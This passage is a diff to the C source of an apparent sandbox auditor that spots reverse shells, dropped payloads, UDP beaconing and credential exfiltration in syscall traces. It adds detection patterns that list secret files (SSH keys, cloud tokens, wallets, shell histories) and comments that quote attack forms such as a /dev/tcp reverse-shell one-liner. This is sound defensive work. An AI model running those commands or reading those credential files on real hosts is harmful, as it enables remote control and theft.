@@ -15,18 +15,31 @@
  *        dup'ed a connected socket onto fd 0/1/2, or after it connected out
  *        itself, or whose parent holds such a socket on its own stdio or
  *        connected and opened /dev/ptmx (pty.spawn relays the shell's
- *        terminal).  Ignored: unix-domain sockets on stdio (log daemons).
+ *        terminal).  Also an exec of any program whose stdin or stdout is
+ *        an inet stream socket the process or an ancestor connected out
+ *        itself (`exec 5<>/dev/tcp/H/P; id >&5`), one finding per
+ *        destination.  Ignored: unix-domain sockets on stdio (log daemons);
+ *        for non-shells, accepted connections (an inetd-style server handing
+ *        a client to a handler) and destinations in allow_connect.
  *   backdoor.bind_shell      critical  the same with an accepted connection.
  *   backdoor.dropped_payload critical  exec or PROT_EXEC mapping of a file
- *        the run wrote outside the workdir or under a hidden name; exec of a
- *        memfd or /proc/PID/fd/N (fileless); PROT_EXEC mapping of a memfd.
+ *        the run wrote outside the workdir or under a hidden name, also when
+ *        it is the script of an interpreter (the first non-option argument
+ *        of python, perl, ruby, php, lua, node, sh, bash, dash ...; not with
+ *        -c/-e/-m) or the program argument of the dynamic loader
+ *        (ld-linux-x86-64.so.2 FILE); exec of a memfd or /proc/PID/fd/N
+ *        (fileless); PROT_EXEC mapping of a memfd.
  *        high: exec of a program under /tmp, /var/tmp or /dev/shm whose
- *        writing was not seen.  Ignored: libffi's trampoline files
+ *        writing was not seen (directly or through the loader); the loader
+ *        running a workdir file, or a PROT_EXEC mapping of a workdir *.so,
+ *        that an interpreter (not a compiler or linker, not target.setup)
+ *        wrote during the run.  Ignored: libffi's trampoline files
  *        ("memfd:libffi", /tmp/ffiXXXXXX), native libraries JVM packages
  *        unpack and load (sqlite-jdbc, JNA, Netty ...), files written by
  *        target.setup (a build, pip install --user), files written in the
- *        workdir under ordinary names (a.out, build outputs), an
- *        interpreter re-executing itself after a connect.
+ *        workdir under ordinary names (a.out, build outputs) except as
+ *        said above, pip's *-packages/ unpacking, an interpreter
+ *        re-executing itself after a connect, PATH-search misses (ENOENT).
  *   backdoor.persistence     high  a write (or rename/link onto, or a
  *        failed attempt) to shell rc files, cron, systemd units, autostart,
  *        authorized_keys, ld.so.preload, sudoers, rc.local, init.d, git hooks
@@ -34,7 +47,9 @@
  *        crontab/at or `systemctl enable`.  Ignored: git's *.sample hooks,
  *        rc-like names inside the workdir (not sourced by anything).
  *   backdoor.exfiltration    critical  a secret (shadow, ssh keys, cloud and
- *        tool credentials, ...) read successfully, then a connect or send on
+ *        tool credentials, shell/SQL/Python histories, gh/hub/rclone/
+ *        terraform/maven/gradle/cargo/s3cmd/boto tokens, wallets, WireGuard
+ *        and NetworkManager keys, /dev/mem, /proc/kcore ...) read successfully, then a connect or send on
  *        an inet socket by the same process, a descendant or an ancestor up
  *        to three levels (a child may read for its parent); or a secret read
  *        while the process holds a connection it opened earlier (the bytes
@@ -46,12 +61,17 @@
  *   backdoor.writable_library high  PROT_EXEC mapping of a file under /tmp,
  *        /var/tmp, /dev/shm or HOME (outside the workdir) not written by the
  *        run (those are dropped_payload).  LD_PRELOAD is not visible: skipped.
- *   backdoor.beaconing       high  >= 3 connect attempts to the same
- *        destination spread over >= 2 s at roughly regular intervals
- *        (coefficient of variation of the gaps <= 0.5); medium when the
- *        destination is loopback.  Ignored: destinations in allow_connect,
- *        loopback ports the run itself listens on (a client polling its own
- *        server), DNS (port 53), unix sockets.
+ *   backdoor.beaconing       high  >= 3 contacts with the same destination
+ *        spread over >= 2 s at roughly regular intervals (coefficient of
+ *        variation of the gaps <= 0.5); medium when the destination is
+ *        loopback.  A contact is a connect attempt, or a send naming its
+ *        destination on an unconnected socket (a UDP sendto beacon); a send
+ *        less than 0.5 s after the previous contact with the same
+ *        destination belongs to the same burst and is not counted (a
+ *        datagram stream is not a series).  Ignored: destinations in
+ *        allow_connect, loopback ports the run itself listens on or bound
+ *        (a client polling its own server, a UDP server answering the run's
+ *        own client), DNS (port 53), unix sockets, sends on connected sockets.
  *
  * Summary: "None observed" / "No dynamic links, sockets, or file drops" when
  * silent, else the worst finding's label ("Reverse shell (+2 more)") and
@@ -81,7 +101,11 @@
 #define MAX_DESTS 128      /* connect destinations tracked for beaconing */
 #define MAX_TIMES 32       /* connect times kept per destination */
 #define MAX_ALLOW 64
-#define MAX_LISTEN 64      /* ports the run itself listens on */
+#define MAX_OWN_PORTS 128  /* ports the run itself listens on or bound */
+#define MAX_PEERS 8        /* outbound peers remembered per process */
+#define MAX_WORK 512       /* workdir files written at run time by non-toolchain programs */
+#define MAX_RS_DESTS 32    /* destinations already reported as reverse shells */
+#define BURST_GAP 0.5      /* sends closer than this to the last contact are one burst */
 #define EVIDENCE_MAX 512   /* characters kept of one evidence line */
 #define ANCESTOR_REACH 3
 
@@ -99,6 +123,9 @@ struct proc {
 	size_t n_fds;
 	bool connected;             /* this pid attempted a connect */
 	char exe[64];               /* base name of its current program */
+	char *cwd;                  /* its working directory (NULL: the workdir) */
+	char peers[MAX_PEERS][96];  /* inet peers it connected to itself */
+	size_t n_peers;
 	bool pty_master;            /* opened /dev/ptmx (pty.spawn, forkpty) */
 	char *connect_text, *accept_text, *dup_text;
 	char *secret;               /* path of a secret it (or kin) read */
@@ -113,6 +140,17 @@ struct dropped {
 	bool setup;                 /* written by the build (target.setup): expected */
 };
 
+/* A file written under an ordinary name in the workdir during the run by a
+ * program that is not a compiler or linker: not a drop by itself (programs
+ * write their output there), but it may not be run through ld.so or loaded
+ * as a library the interpreter wrote. */
+struct work_write {
+	char *path;
+	char *text;
+	char writer[64];
+	bool interp;                /* the writer is an interpreter (python, node, sh ...) */
+};
+
 struct dest {
 	char addr[96];
 	bool loopback;
@@ -120,6 +158,8 @@ struct dest {
 	double times[MAX_TIMES];
 	char *first_text;
 	int pid;
+	size_t n_sends;             /* contacts that were explicit-destination sends */
+	double last_seen;           /* time of the last connect or send, counted or not */
 };
 
 struct backdoor {
@@ -135,8 +175,12 @@ struct backdoor {
 	size_t n_drops, drops_dropped;
 	struct dest dests[MAX_DESTS];
 	size_t n_dests, dests_dropped;
-	int listen_ports[MAX_LISTEN];
-	size_t n_listen;
+	struct work_write works[MAX_WORK];
+	size_t n_works, works_dropped;
+	int own_ports[MAX_OWN_PORTS];
+	size_t n_own_ports;
+	char rs_dests[MAX_RS_DESTS][96];
+	size_t n_rs_dests;
 
 	enum da_severity worst;
 	size_t n_findings;
@@ -294,6 +338,7 @@ static void proc_clear(struct proc *p)
 	free(p->dup_text);
 	free(p->secret);
 	free(p->secret_text);
+	free(p->cwd);
 	memset(p, 0, sizeof(*p));
 }
 
@@ -362,6 +407,19 @@ static void fd_track(struct proc *p, int fd, enum fd_kind kind, const char *desc
 	snprintf(t->desc, sizeof(t->desc), "%s", desc ? desc : "?");
 }
 
+/* Remember an outbound peer ("127.0.0.1:4444") of the process that
+ * connected; kept after close, since live runs do not see dup2/close. */
+static void note_peer(struct proc *p, const char *addr)
+{
+	if (!addr || !addr[0])
+		return;
+	for (size_t i = 0; i < p->n_peers; i++)
+		if (strcmp(p->peers[i], addr) == 0)
+			return;
+	size_t i = p->n_peers < MAX_PEERS ? p->n_peers++ : MAX_PEERS - 1; /* newest wins */
+	snprintf(p->peers[i], sizeof(p->peers[i]), "%s", addr);
+}
+
 /* What sits on fd 0 or 1 according to our own dup tracking. */
 static const struct tracked_fd *socket_on_stdio(struct proc *p)
 {
@@ -408,6 +466,125 @@ static void note_dropped(struct backdoor *st, const char *path, const struct da_
 	st->drops[st->n_drops].text = copy_text(ev->text);
 	st->drops[st->n_drops].setup = ev->phase != NULL;
 	st->n_drops++;
+}
+
+/* Compilers, assemblers, linkers and build drivers: what they write in the
+ * workdir is a build output. */
+static bool is_toolchain(const char *base)
+{
+	static const char *const exact[] = {
+		"cc", "c++", "cpp", "ld", "as", "collect2", "lto1", "lto-wrapper", "f951",
+		"rustc", "cargo", "go", "link", "compile", "asm", "javac", "make", "gmake",
+		"cmake", "ninja", "tcc", "ar", "ranlib", "strip", "objcopy", "mold", "nasm",
+		"yasm", "ghc", "zig", "swiftc", "ocamlopt", "gfortran"};
+	static const char *const prefixes[] = {"gcc", "g++", "clang", "cc1", "ld.", "gfortran-",
+					       "x86_64-linux-gnu-", "aarch64-linux-gnu-"};
+	for (size_t i = 0; i < sizeof(exact) / sizeof(exact[0]); i++)
+		if (strcmp(base, exact[i]) == 0)
+			return true;
+	for (size_t i = 0; i < sizeof(prefixes) / sizeof(prefixes[0]); i++)
+		if (starts_with(base, prefixes[i]))
+			return true;
+	return false;
+}
+
+/* Programs that run a script named on their command line. */
+static bool is_script_runner(const char *base)
+{
+	static const char *const exact[] = {"sh", "bash", "dash", "zsh", "ksh", "mksh", "ash",
+					    "node", "nodejs"};
+	static const char *const prefixes[] = {"python", "perl", "ruby", "php", "lua"};
+	for (size_t i = 0; i < sizeof(exact) / sizeof(exact[0]); i++)
+		if (strcmp(base, exact[i]) == 0)
+			return true;
+	for (size_t i = 0; i < sizeof(prefixes) / sizeof(prefixes[0]); i++)
+		if (starts_with(base, prefixes[i]))
+			return true;
+	return false;
+}
+
+/* The dynamic loader run as a program: ld-linux-x86-64.so.2 FILE. */
+static bool is_loader(const char *base)
+{
+	return starts_with(base, "ld-linux") || starts_with(base, "ld-musl") ||
+	       starts_with(base, "ld.so") || starts_with(base, "ld64.so");
+}
+
+/* The program pid runs, or the one its parent ran (a fork that did not exec). */
+static const char *writer_of(struct backdoor *st, struct proc *p)
+{
+	if (!p)
+		return "";
+	if (p->exe[0])
+		return p->exe;
+	struct proc *parent = p->ppid > 0 ? proc_find(st, p->ppid) : NULL;
+	return parent ? parent->exe : "";
+}
+
+static const struct work_write *work_find(const struct backdoor *st, const char *path)
+{
+	for (size_t i = 0; path && i < st->n_works; i++)
+		if (strcmp(st->works[i].path, path) == 0)
+			return &st->works[i];
+	return NULL;
+}
+
+static void note_work_write(struct backdoor *st, const char *path, const struct da_event *ev)
+{
+	if (ev->phase || !in_workdir(st, path) || is_drop_location(st, path) ||
+	    strstr(path, "/__pycache__/") || has_suffix(path, ".pyc") || work_find(st, path))
+		return;
+	const char *writer = writer_of(st, proc_find(st, ev->pid));
+	if (is_toolchain(writer))
+		return; /* a build output */
+	if (st->n_works >= MAX_WORK) {
+		st->works_dropped++;
+		return;
+	}
+	struct work_write *w = &st->works[st->n_works];
+	w->path = strdup(path);
+	if (!w->path)
+		return;
+	w->text = copy_text(ev->text);
+	snprintf(w->writer, sizeof(w->writer), "%s", writer);
+	w->interp = is_script_runner(writer) || strcmp(writer, "busybox") == 0;
+	st->n_works++;
+}
+
+/* arg resolved against cwd ("./build.dat" in /home/a/app -> /home/a/app/build.dat),
+ * with "." and ".." segments folded.  False when it does not fit. */
+static bool resolve_path(const char *cwd, const char *arg, char *out, size_t len)
+{
+	char joined[4096];
+	int n = arg[0] == '/' ? snprintf(joined, sizeof(joined), "%s", arg)
+			      : snprintf(joined, sizeof(joined), "%s/%s", cwd, arg);
+	if (n < 0 || (size_t)n >= sizeof(joined) || len < 2)
+		return false;
+	size_t o = 0;
+	out[0] = '\0';
+	char *save = NULL;
+	for (char *seg = strtok_r(joined, "/", &save); seg; seg = strtok_r(NULL, "/", &save)) {
+		if (strcmp(seg, ".") == 0)
+			continue;
+		if (strcmp(seg, "..") == 0) {
+			while (o > 0 && out[o - 1] != '/')
+				o--;
+			if (o > 0)
+				o--;
+			out[o] = '\0';
+			continue;
+		}
+		size_t m = strlen(seg);
+		if (o + 1 + m + 1 > len)
+			return false;
+		out[o++] = '/';
+		memcpy(out + o, seg, m);
+		o += m;
+		out[o] = '\0';
+	}
+	if (o == 0)
+		snprintf(out, len, "/");
+	return true;
 }
 
 /* ---- persistence ----------------------------------------------------------- */
@@ -486,13 +663,22 @@ static int secret_class(const struct backdoor *st, const char *path, int reader_
 	static const char *const strong_prefixes[] = {
 		"/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/etc/master.passwd",
 		"/etc/ssl/private/", "/etc/ssh/ssh_host_", "/root/", "/var/lib/sss/",
-		"/etc/krb5.keytab"};
+		"/etc/krb5.keytab", "/etc/wireguard/", "/etc/NetworkManager/system-connections/",
+		"/var/lib/postgresql/.pgpass"};
+	/* whole files: a path equal to one, or ending in one */
+	static const char *const strong_files[] = {"/dev/mem", "/proc/kcore"};
+	static const char *const strong_suffixes[] = {
+		"/.python_history", "/.mysql_history", "/.psql_history", "/.config/hub", "/.s3cfg",
+		"/.boto"};
 	static const char *const strong_parts[] = {
 		"/.ssh/", "/.aws/", "/.config/gcloud/", "/.azure/", "/.kube/config",
 		"/.docker/config.json", "/.netrc", "/.git-credentials", "/.pgpass", "/.gnupg/",
 		"/.password-store/", "/.bash_history", "/.zsh_history", "/.mozilla/",
 		"/.config/google-chrome/", "/.config/chromium/", "/.local/share/keyrings/",
-		"/.vault-token", "/.npmrc", "/.pypirc"};
+		"/.vault-token", "/.npmrc", "/.pypirc", "/.config/gh/hosts.yml",
+		"/.config/rclone/rclone.conf", "/.terraform.d/credentials.tfrc.json",
+		"/.m2/settings.xml", "/.gradle/gradle.properties", "/.cargo/credentials",
+		"/.bitcoin/wallet.dat", "/.electrum/"};
 	if (!path || in_workdir(st, path))
 		return 0;
 	if (strcmp(path, "/etc/passwd") == 0 || strcmp(path, "/etc/group") == 0)
@@ -505,6 +691,12 @@ static int secret_class(const struct backdoor *st, const char *path, int reader_
 			return 1;
 	for (size_t i = 0; i < sizeof(strong_parts) / sizeof(strong_parts[0]); i++)
 		if (strstr(path, strong_parts[i]))
+			return 1;
+	for (size_t i = 0; i < sizeof(strong_files) / sizeof(strong_files[0]); i++)
+		if (strcmp(path, strong_files[i]) == 0)
+			return 1;
+	for (size_t i = 0; i < sizeof(strong_suffixes) / sizeof(strong_suffixes[0]); i++)
+		if (has_suffix(path, strong_suffixes[i]))
 			return 1;
 	return 0;
 }
@@ -600,7 +792,11 @@ static void check_exfiltration(struct backdoor *st, struct proc *p, const struct
 
 /* ---- beaconing ------------------------------------------------------------- */
 
-static void note_connect_dest(struct backdoor *st, const struct da_event *ev)
+/* A connect attempt, or a send with an explicit destination (sendto or
+ * sendmsg on an unconnected socket: a UDP beacon never connects).  Only the
+ * first send of a burst counts: a datagram stream is one contact, not a
+ * series. */
+static void note_contact(struct backdoor *st, const struct da_event *ev, bool send)
 {
 	if (!ev->addr || ev->addr[0] == '/' || ev->addr[0] == '@' || ev->port == 53 ||
 	    ev->family == AF_UNIX || allowed(st, ev->addr))
@@ -619,18 +815,56 @@ static void note_connect_dest(struct backdoor *st, const struct da_event *ev)
 		d->loopback = is_loopback(ev->addr);
 		d->first_text = copy_text(ev->text);
 		d->pid = ev->pid;
+	} else if (send && ev->time_s - d->last_seen < BURST_GAP) {
+		d->last_seen = ev->time_s;
+		return;
 	}
+	d->last_seen = ev->time_s;
 	if (d->n < MAX_TIMES)
 		d->times[d->n] = ev->time_s;
 	d->n++;
+	if (send)
+		d->n_sends++;
 }
 
-static bool run_listens_on(const struct backdoor *st, const char *addr)
+/* sendto/sendmsg naming its destination: the socket is not connected (no
+ * "->" peer in its description) and the call carries an address. */
+static bool is_explicit_send(const struct da_event *ev)
+{
+	if (!ev->addr || (ev->fd_desc && strstr(ev->fd_desc, "->")))
+		return false;
+	if (!(ev->family == AF_INET || ev->family == AF_INET6 || is_net_socket(ev->fd_desc)))
+		return false;
+	return !(ev->text && strstr(ev->text, ", NULL, 0)"));
+}
+
+/* The local port of "socket:inet/dgram@0.0.0.0:38604" (0 when none). */
+static int local_port(const char *desc)
+{
+	const char *at = desc && starts_with(desc, "socket:inet") ? strchr(desc, '@') : NULL;
+	const char *colon = at ? strrchr(at, ':') : NULL;
+	return colon ? atoi(colon + 1) : 0;
+}
+
+static void note_own_port(struct backdoor *st, int port)
+{
+	if (port <= 0)
+		return;
+	for (size_t i = 0; i < st->n_own_ports; i++)
+		if (st->own_ports[i] == port)
+			return;
+	if (st->n_own_ports < MAX_OWN_PORTS)
+		st->own_ports[st->n_own_ports++] = port;
+}
+
+/* addr's port is one the run listens on or has bound (a UDP server, or the
+ * local port of its own client socket a server replies to). */
+static bool run_owns_port(const struct backdoor *st, const char *addr)
 {
 	const char *colon = strrchr(addr, ':');
 	int port = colon ? atoi(colon + 1) : 0;
-	for (size_t i = 0; port > 0 && i < st->n_listen; i++)
-		if (st->listen_ports[i] == port)
+	for (size_t i = 0; port > 0 && i < st->n_own_ports; i++)
+		if (st->own_ports[i] == port)
 			return true;
 	return false;
 }
@@ -640,7 +874,7 @@ static void report_beacons(struct backdoor *st)
 	for (size_t i = 0; i < st->n_dests; i++) {
 		struct dest *d = &st->dests[i];
 		/* a client polling the run's own server is the app talking to itself */
-		if (d->loopback && run_listens_on(st, d->addr))
+		if (d->loopback && run_owns_port(st, d->addr))
 			continue;
 		size_t n = d->n < MAX_TIMES ? d->n : MAX_TIMES;
 		if (n < 3 || d->times[n - 1] - d->times[0] < 2.0)
@@ -654,9 +888,11 @@ static void report_beacons(struct backdoor *st)
 		if (var / (double)(n - 1) > 0.25 * mean * mean)
 			continue;
 		char msg[256];
-		snprintf(msg, sizeof(msg),
-			 "beaconing: %zu connect attempts to %s about every %.1fs%s", d->n, d->addr,
-			 mean, d->loopback ? " (loopback)" : "");
+		const char *what = d->n_sends == 0 ? "connect attempts"
+				   : d->n_sends == d->n ? "sends (first of each burst)"
+							: "connects and sends";
+		snprintf(msg, sizeof(msg), "beaconing: %zu %s to %s about every %.1fs%s", d->n, what,
+			 d->addr, mean, d->loopback ? " (loopback)" : "");
 		const char *evidence[1] = {d->first_text};
 		emit(st, "backdoor.beaconing", d->loopback ? DA_SEV_MEDIUM : DA_SEV_HIGH,
 		     "Beaconing", msg, d->pid, d->times[0], evidence, 1,
@@ -718,7 +954,30 @@ static const char *shell_link(struct proc *p, struct proc *parent, const struct 
 	return NULL;
 }
 
-static void check_shell(struct backdoor *st, struct proc *p, const struct da_event *ev,
+/* The peer of an inet stream socket description, or NULL:
+ * "socket:inet/stream->127.0.0.1:4444" -> "127.0.0.1:4444". */
+static const char *stream_peer(const char *desc)
+{
+	const char *arrow = is_net_socket(desc) ? strstr(desc, "/stream->") : NULL;
+	return arrow && arrow[9] ? arrow + 9 : NULL;
+}
+
+static bool rs_reported(const struct backdoor *st, const char *dest)
+{
+	for (size_t i = 0; i < st->n_rs_dests; i++)
+		if (strcmp(st->rs_dests[i], dest) == 0)
+			return true;
+	return false;
+}
+
+static void rs_note(struct backdoor *st, const char *dest)
+{
+	if (dest && !rs_reported(st, dest) && st->n_rs_dests < MAX_RS_DESTS)
+		snprintf(st->rs_dests[st->n_rs_dests++], sizeof(st->rs_dests[0]), "%s", dest);
+}
+
+/* Returns whether it reported. */
+static bool check_shell(struct backdoor *st, struct proc *p, const struct da_event *ev,
 			const char *exe)
 {
 	struct proc *parent = p && p->ppid > 0 ? proc_find(st, p->ppid) : NULL;
@@ -726,7 +985,7 @@ static void check_shell(struct backdoor *st, struct proc *p, const struct da_eve
 	const struct tracked_fd *dup;
 	const char *link = shell_link(p, parent, ev, &owner, &dup);
 	if (!link)
-		return;
+		return false;
 	bool accepted = dup ? dup->kind == FD_ACCEPTED
 			    : (owner && owner->accept_text && !owner->connected);
 	char msg[768], res[64];
@@ -738,6 +997,203 @@ static void check_shell(struct backdoor *st, struct proc *p, const struct da_eve
 	emit(st, accepted ? "backdoor.bind_shell" : "backdoor.reverse_shell", DA_SEV_CRITICAL,
 	     accepted ? "Bind shell" : "Reverse shell", msg, ev->pid, ev->time_s, evidence, 3,
 	     "Remove the code that hands a shell or interpreter to a network peer: this is remote control of the host");
+	if (!accepted)
+		rs_note(st, stream_peer(link) ? stream_peer(link) : (dup ? dup->desc : NULL));
+	return true;
+}
+
+/* The process (p or an ancestor) that connected out to peer, or NULL: the
+ * one that called connect, else (it has exited) one that holds the socket
+ * by inheritance. */
+static struct proc *connector_of(struct backdoor *st, struct proc *p, const char *peer)
+{
+	for (int pass = 0; pass < 2; pass++) {
+		struct proc *q = p;
+		for (int level = 0; q && level <= 2 * ANCESTOR_REACH; level++) {
+			for (size_t i = 0; pass == 0 && i < q->n_peers; i++)
+				if (strcmp(q->peers[i], peer) == 0)
+					return q;
+			for (size_t i = 0; pass == 1 && i < q->n_fds; i++)
+				if (q->fds[i].kind == FD_CONNECTED && strcmp(q->fds[i].desc, peer) == 0)
+					return q;
+			q = q->ppid > 0 && q->ppid != q->pid ? proc_find(st, q->ppid) : NULL;
+		}
+	}
+	return NULL;
+}
+
+/* Any program whose stdin or stdout is a TCP connection the run opened
+ * itself: `exec 5<>/dev/tcp/HOST/PORT; cmd >&5` turns the audited shell
+ * into the remote end's command runner without exec'ing a new shell.
+ * Accepted connections (an inetd-style server handing a client to a
+ * handler) and unix sockets are not outbound and do not count. */
+static void check_stdio_socket(struct backdoor *st, struct proc *p, const struct da_event *ev,
+			       const char *exe)
+{
+	if (!p)
+		return;
+	const char *peer = NULL;
+	struct proc *owner = NULL;
+	int fd = 0;
+	for (; fd <= 1 && !owner; fd++) {
+		peer = stream_peer(ev->stdio[fd]);
+		owner = peer ? connector_of(st, p, peer) : NULL;
+	}
+	fd--;
+	if (!owner && stdio_unknown(ev->stdio[0]) && stdio_unknown(ev->stdio[1])) {
+		/* recorded without fd descriptions: our own dup2 tracking */
+		for (fd = 0; fd <= 1 && !owner; fd++) {
+			const struct tracked_fd *t = fd_find(p, fd);
+			if (t && t->kind == FD_CONNECTED) {
+				peer = t->desc;
+				owner = p;
+			}
+		}
+		fd--;
+	}
+	if (!owner || !peer || allowed(st, peer) || rs_reported(st, peer))
+		return;
+	rs_note(st, peer);
+	char msg[768], res[64];
+	outcome(ev, res, sizeof(res));
+	snprintf(msg, sizeof(msg),
+		 "reverse shell: %s runs with its %s on the connection to %s that %s (pid %d) opened%s",
+		 exe, fd == 0 ? "stdin" : "stdout", peer, owner->exe[0] ? owner->exe : "the run",
+		 owner->pid, res);
+	/* the first connect of the owner, when it is the one to this peer */
+	const char *port = strrchr(peer, ':');
+	const char *ctext = owner->connect_text && port && strstr(owner->connect_text, port + 1)
+				    ? owner->connect_text
+				    : NULL;
+	const char *evidence[3] = {ctext, owner->dup_text, ev->text};
+	emit(st, "backdoor.reverse_shell", DA_SEV_CRITICAL, "Reverse shell", msg, ev->pid,
+	     ev->time_s, evidence, 3,
+	     "Remove the code that runs commands with their input or output on an outgoing connection: this is remote control of the host");
+}
+
+/* True when argument a of the runner base makes it take its code from the
+ * command line or stdin (python -c, perl -e, sh -c, node -e, php -r ...). */
+static bool code_from_cmdline(const char *base, const char *a)
+{
+	bool long_opt = a[1] == '-';
+	if (strcmp(a, "-") == 0)
+		return true;
+	if (starts_with(base, "python"))
+		return !long_opt && (strchr(a + 1, 'c') || strchr(a + 1, 'm'));
+	if (starts_with(base, "perl") || starts_with(base, "ruby"))
+		return !long_opt && (strchr(a + 1, 'e') || strchr(a + 1, 'E'));
+	if (strcmp(base, "node") == 0 || strcmp(base, "nodejs") == 0)
+		return strcmp(a, "--eval") == 0 || strcmp(a, "--print") == 0 ||
+		       (!long_opt && (strchr(a + 1, 'e') || strchr(a + 1, 'p')));
+	if (starts_with(base, "php"))
+		return strcmp(a, "-r") == 0 || strcmp(a, "-R") == 0 || strcmp(a, "-B") == 0 ||
+		       strcmp(a, "-E") == 0;
+	if (starts_with(base, "lua"))
+		return strcmp(a, "-e") == 0;
+	/* shells */
+	return !long_opt && a[0] == '-' && (strchr(a + 1, 'c') || strchr(a + 1, 's'));
+}
+
+/* True when option a of the runner base takes the next argument as its value. */
+static bool option_takes_value(const char *base, const char *a)
+{
+	static const char *const loader[] = {"--library-path", "--preload", "--audit", "--argv0",
+					     "--inhibit-rpath", "--glibc-hwcaps-prepend",
+					     "--glibc-hwcaps-mask", NULL};
+	static const char *const python[] = {"-W", "-X", "--check-hash-based-pycs", NULL};
+	static const char *const ruby[] = {"-I", "-r", NULL};
+	static const char *const node[] = {"-r", "--require", "--import", "--loader",
+					   "--experimental-loader", "-C", "--conditions", NULL};
+	static const char *const php[] = {"-d", "-c", "-z", "-t", "-S", NULL};
+	static const char *const lua[] = {"-l", NULL};
+	static const char *const shell[] = {"-o", "+o", "-O", "+O", "--rcfile", "--init-file", NULL};
+	const char *const *list = is_loader(base)                 ? loader
+				  : starts_with(base, "python")   ? python
+				  : starts_with(base, "ruby")     ? ruby
+				  : starts_with(base, "perl")     ? NULL
+				  : strcmp(base, "node") == 0 || strcmp(base, "nodejs") == 0 ? node
+				  : starts_with(base, "php")      ? php
+				  : starts_with(base, "lua")      ? lua
+								  : shell;
+	for (; list && *list; list++)
+		if (strcmp(a, *list) == 0)
+			return true;
+	return false;
+}
+
+/* The script a runner is asked to run (the program, for ld.so): its first
+ * argument that is neither an option nor an option's value.  NULL when the
+ * code comes from the command line or stdin. */
+static const char *script_arg(const char *base, int argc, const char *const *argv)
+{
+	bool shell = !is_loader(base) && !starts_with(base, "python") && !starts_with(base, "perl") &&
+		     !starts_with(base, "ruby") && !starts_with(base, "php") &&
+		     !starts_with(base, "lua") && strcmp(base, "node") != 0 &&
+		     strcmp(base, "nodejs") != 0;
+	for (int i = 1; i < argc; i++) {
+		const char *a = argv[i];
+		if (!a || !a[0])
+			return NULL;
+		if (strcmp(a, "--") == 0)
+			return i + 1 < argc ? argv[i + 1] : NULL;
+		if (a[0] != '-' && !(shell && a[0] == '+'))
+			return a;
+		if (!is_loader(base) && code_from_cmdline(base, a))
+			return NULL;
+		if (starts_with(base, "php") && strcmp(a, "-f") == 0)
+			return i + 1 < argc ? argv[i + 1] : NULL;
+		if (option_takes_value(base, a))
+			i++;
+	}
+	return NULL;
+}
+
+/* `python3 /tmp/.x.py`, `sh /tmp/.u.sh`, `ld-linux-x86-64.so.2 ./build.dat`:
+ * the program exec'd is a clean system binary, the code is its argument. */
+static void check_script_arg(struct backdoor *st, struct proc *p, const struct da_event *ev,
+			     const char *exe)
+{
+	const char *base = base_name(exe);
+	bool loader = is_loader(base);
+	if ((!loader && !is_script_runner(base)) || !ev->argv || ev->argc < 2)
+		return;
+	if (ev->err == ENOENT || ev->err == ENOTDIR)
+		return; /* a PATH search miss: the runner is not there, nothing ran */
+	const char *arg = script_arg(base, ev->argc, ev->argv);
+	const char *cwd = p && p->cwd ? p->cwd : st->workdir;
+	char path[4096];
+	if (!arg || (arg[0] != '/' && cwd[0] != '/') || !resolve_path(cwd, arg, path, sizeof(path)))
+		return;
+	char msg[768], res[64], how[96];
+	outcome(ev, res, sizeof(res));
+	if (loader)
+		snprintf(how, sizeof(how), "through the dynamic loader %s", base);
+	else
+		snprintf(how, sizeof(how), "with %s", base);
+	const char *rec = "Remove the code that writes scripts or programs and then runs them";
+	const struct dropped *d = dropped_find(st, path);
+	const struct work_write *w = loader && !d ? work_find(st, path) : NULL;
+	if (d && !d->setup) {
+		snprintf(msg, sizeof(msg), "dropped payload: runs %s, which it wrote, %s%s", path,
+			 how, res);
+		const char *evidence[2] = {d->text, ev->text};
+		emit(st, "backdoor.dropped_payload", DA_SEV_CRITICAL, "Dropped payload executed", msg,
+		     ev->pid, ev->time_s, evidence, 2, rec);
+	} else if (w) {
+		/* a build output is written by the toolchain, never by a script */
+		snprintf(msg, sizeof(msg),
+			 "dropped payload: runs %s %s, a file %s wrote in the workdir during the run%s",
+			 path, how, w->writer[0] ? w->writer : "the run", res);
+		const char *evidence[2] = {w->text, ev->text};
+		emit(st, "backdoor.dropped_payload", DA_SEV_HIGH, "Dropped payload executed", msg,
+		     ev->pid, ev->time_s, evidence, 2, rec);
+	} else if (loader && !d && in_temp_dir(path) && !in_workdir(st, path)) {
+		snprintf(msg, sizeof(msg), "executes %s from a writable temporary directory %s%s",
+			 path, how, res);
+		const char *evidence[1] = {ev->text};
+		emit(st, "backdoor.dropped_payload", DA_SEV_HIGH, "Executes from /tmp", msg, ev->pid,
+		     ev->time_s, evidence, 1, rec);
+	}
 }
 
 static bool is_fileless(const struct da_event *ev, const char *path)
@@ -759,8 +1215,11 @@ static void on_exec(struct backdoor *st, const struct da_event *ev)
 	outcome(ev, res, sizeof(res));
 	const char *rec = "Remove the code that writes and runs hidden or temporary executables";
 
-	if (exe && is_shell_like(exe))
-		check_shell(st, p, ev, exe);
+	bool shell_reported = exe && is_shell_like(exe) && check_shell(st, p, ev, exe);
+	if (exe && !shell_reported)
+		check_stdio_socket(st, p, ev, exe);
+	if (exe)
+		check_script_arg(st, p, ev, exe);
 	if (p && exe && ev->err == 0)
 		snprintf(p->exe, sizeof(p->exe), "%s", base_name(exe));
 	if (is_fileless(ev, exe)) {
@@ -833,6 +1292,7 @@ static void on_mmap_exec(struct backdoor *st, const struct da_event *ev)
 	char msg[768];
 	const char *rec = "Load code only from the submission or the system library directories";
 	const struct dropped *d = dropped_find(st, path);
+	const struct work_write *w;
 	if (d && d->setup)
 		return; /* installed by target.setup (pip install --user ...) */
 	if (strstr(path, "memfd:")) {
@@ -844,6 +1304,17 @@ static void on_mmap_exec(struct backdoor *st, const struct da_event *ev)
 		snprintf(msg, sizeof(msg), "dropped payload: loads %s as code, a file it wrote", path);
 		const char *evidence[2] = {d->text, ev->text};
 		emit(st, "backdoor.dropped_payload", DA_SEV_CRITICAL, "Dropped payload loaded", msg,
+		     ev->pid, ev->time_s, evidence, 2, rec);
+	} else if ((w = work_find(st, path)) != NULL && w->interp && strstr(base, ".so") &&
+		   !strstr(path, "-packages/")) {
+		/* a native library comes from a compiler (a build in setup or in
+		 * the run), not from a script writing bytes (base64 -> ctypes);
+		 * pip's site-packages/dist-packages unpacking is not counted */
+		snprintf(msg, sizeof(msg),
+			 "dropped payload: loads %s as code, a library %s wrote in the workdir during the run",
+			 path, w->writer);
+		const char *evidence[2] = {w->text, ev->text};
